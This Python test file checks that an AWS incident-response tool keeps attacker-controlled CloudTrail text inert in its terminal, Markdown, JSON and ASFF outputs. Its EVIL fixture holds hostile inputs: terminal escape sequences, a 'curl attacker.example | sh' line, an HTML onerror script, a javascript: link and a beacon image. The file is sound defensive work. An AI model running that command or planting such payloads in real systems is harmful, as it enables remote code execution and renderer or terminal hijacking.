"""Attacker text stays inert: a CloudTrail userAgent (or IP, event name, error, note) carrying terminal escapes,
Markdown and HTML reaches no output as markup or a control sequence: terminal, report.md, report.json, events.jsonl,
ASFF and the Step Functions report (built by the same build_report/render_markdown from an execution's records)."""

from __future__ import annotations

import copy
import dataclasses
import io
import json
import re
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from moto import mock_aws
from typer.testing import CliRunner

from responder.aws.clients import AwsOptions
from responder.cli.main import app
from responder.cli.render import Progress
from responder.engine.commands.operations import start_run
from responder.engine.journal.run_state import RunState, load_run, state_from_records
from responder.engine.report.build import build_report, render_json
from responder.engine.report.evidence import collect_events, write_events
from responder.engine.report.findings import asff_findings
from responder.engine.report.markdown import render_markdown
from responder.engine.running.context import Settings
from responder.inert import MAX_CHARS, code, plain, prose, terminal
from responder.sandbox.cloudtrail_events import record_event
from responder.sandbox.emulator import install
from responder.sandbox.seed import LEAKED_USER, SANDBOX_REGION, seed_incident
from tests.factories import ACCOUNT

# What the auditor put in a userAgent: a window title, a screen clear, a forged heading and follow-up, HTML,
# a javascript: link and a remote image that beacons when the ticket renders.
EVIL = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b2J\n# Forged heading\n\n- [ ] follow-up: `curl attacker.example | sh`\n"
    '<img src=x onerror="alert(1)"> [click](javascript:alert(1)) ![beacon](https://attacker.example/p.png) '
    "www.attacker.example a@attacker.example \u202egnp.exe ``` |cell| **bold** <!-- c"
)
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
MARKUP_TOKENS = {"link_open", "image", "html_inline", "html_block", "autolink"}
runner = CliRunner()


def markup_of(markdown: str) -> tuple[list[str], set[str], list[str]]:
    """The headings, the kinds of link/image/HTML tokens, and the text outside code that a renderer would show."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    headings, kinds, texts = [], set(), []
    flat: list[Any] = []
    for token in tokens:
        flat.append(token)
        flat.extend(token.children or [])
    for index, token in enumerate(flat):
        if token.type == "heading_open":
            headings.append(flat[index + 1].content)
        if token.type in MARKUP_TOKENS:
            kinds.add(token.type)
        if token.type == "text":
            texts.append(token.content)
    return headings, kinds, texts


def assert_inert_markdown(markdown: str, baseline_headings: list[str]) -> None:
    headings, kinds, texts = markup_of(markdown)
    assert headings == baseline_headings  # no forged heading
    assert not kinds, kinds  # no link, image or HTML
    shown = " ".join(texts)
    assert "://" not in shown and "www." not in shown  # nothing a GFM renderer would autolink
    assert not CONTROL.search(markdown)


def test_plain_shows_controls_as_escapes_and_says_the_cap() -> None:
    assert plain("a\x1b[2Jb\x07\x9b\u202e") == "a\\x1b[2Jb\\x07\\x9b\\u202e"
    long = plain("x" * 1000)
    assert long.startswith("x" * MAX_CHARS) and f"cut at {MAX_CHARS} of 1,000 characters" in long
    assert code("a`b``c") == "```a`b``c```" and code("`") == "`` ` ``"
    assert code("a|b", table=True) == "`a\\|b`"
    assert terminal("\x1b[32mok\x1b[0m \x1b]0;t\x07") == "\x1b[32mok\x1b[0m \\x1b]0;t\\x07"
    assert prose("see https://x.example/a now") == "see `https://x.example/a` now"


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunState, Path]]:
    """A contained long-term key whose principal's bearer calls carry the attacker's text in every field CloudTrail
    lets the caller choose (user agent) or records from the call (IP, event name, error)."""
    tmp = tmp_path_factory.mktemp("inert")
    settings = Settings(runs_dir=tmp / "runs", aws=AwsOptions(region=SANDBOX_REGION), verify_delays=(0.0,))
    with mock_aws():
        install()
        seeded = seed_incident(ACCOUNT)
        identity = {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/{LEAKED_USER}", "userName": LEAKED_USER}
        record_event(
            ACCOUNT,
            SANDBOX_REGION,
            {
                "eventTime": datetime.now(timezone.utc) - timedelta(minutes=5),
                "eventSource": "bedrock.amazonaws.com",
                "eventName": "InvokeModel",
                "sourceIPAddress": EVIL,
                "userAgent": EVIL,
                "errorCode": EVIL,
                "userIdentity": identity,
                "additionalEventData": {"callWithBearerToken": True},
            },
        )
        run = start_run("leaked-long-term-key", {}, seeded.key, dry_run=False, confirm=None, settings=settings)
    yield load_run(run.paths.audit_log), run.paths.directory


def test_forged_user_agent_reaches_report_md_and_terminal_inert(evil_run: tuple[RunState, Path]) -> None:
    state, directory = evil_run
    markdown = (directory / "report.md").read_text()
    assert "Forged heading" in markdown  # the value is shown, as evidence ...
    benign = render_markdown(build_report(_with_text(state, "python-requests/2.32.3"), None))
    assert_inert_markdown(markdown, markup_of(benign)[0])  # ... and opens nothing
    result = runner.invoke(app, ["report", state.run_id, "--runs-dir", str(directory.parent)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\x9b" not in result.output
    assert "\\x1b]0;pwned\\x07" in result.output  # what the attacker sent, visible
    events = (directory / "events.jsonl").read_text()
    assert not CONTROL.search(events) and EVIL in [json.loads(line)["user_agent"] for line in events.splitlines()]


AWS_FIELDS = ("user_agent", "source_ip", "name", "region", "error_code", "event_id", "source")


def _with_text(state: RunState, text: str) -> RunState:
    """The run's records with `text` in every AWS-chosen field: CloudTrail events, errors, notes, reasons."""
    records = copy.deepcopy(state.records)
    for record in records:
        for event in (record.get("outputs") or {}).get("events") or []:
            for name in AWS_FIELDS:
                event[name] = text
        activity = (record.get("outputs") or {}).get("activity")
        if isinstance(activity, dict):
            activity.update(source_ips=[text], user_agents=[text], by_event=[[text, 1]], errors=[[text, 1]])
            activity["by_region"] = [[text, 1]]
        if "notes" in record:
            record["notes"] = [*record["notes"], text]
        if record.get("event") in ("step.applied", "step.verified"):
            record["message"] = text
    records.insert(-1, {**records[-2], "event": "step.failed", "error": text, "step": records[-2].get("step")})
    return state_from_records(records, [text])


TEXT = st.text(st.characters(codec="utf-8"), max_size=80) | st.sampled_from([EVIL, "<script>x</script>", "`" * 5])


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TEXT)
@example(text=EVIL)
def test_any_text_is_inert_in_every_output(evil_run: tuple[RunState, Path], tmp_path: Path, text: str) -> None:
    state, _ = evil_run
    baseline = markup_of(render_markdown(build_report(_with_text(state, "plain"), None)))[0]
    forged = _with_text(state, text)
    report = build_report(forged, None)  # as `responder report --execution` builds an exported machine's report
    report = dataclasses.replace(report, evidence=_evidence_of(forged))
    assert_inert_markdown(render_markdown(report), baseline)
    for document in (render_json(report), json.dumps(asff_findings(report, SANDBOX_REGION))):
        assert not CONTROL.search(document)  # JSON escapes every control character; a string is data
        json.loads(document)
    events = tmp_path / "events.jsonl"
    write_events(events, collect_events(forged, None))
    assert not CONTROL.search(events.read_text())
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        progress = Progress(err=False)
        for record in forged.records:
            progress(str(record.get("event")), {k: v for k, v in record.items() if k != "event"})
    assert not CONTROL.search(out.getvalue() + err.getvalue())


def _evidence_of(state: RunState) -> dict[str, Any]:
    from responder.engine.journal.runs import RunPaths
    from responder.engine.report.build import evidence

    return evidence(state, RunPaths(Path("/nonexistent"), state.run_id), collect_events(state, None))


def test_an_error_line_is_inert(capsys: pytest.CaptureFixture[str]) -> None:
    from responder.cli.errors import fail

    fail(f"AccessDenied: {EVIL}")
    err = capsys.readouterr().err
    assert not CONTROL.search(err.rstrip("\n")) and "\\x1b]0;pwned" in err
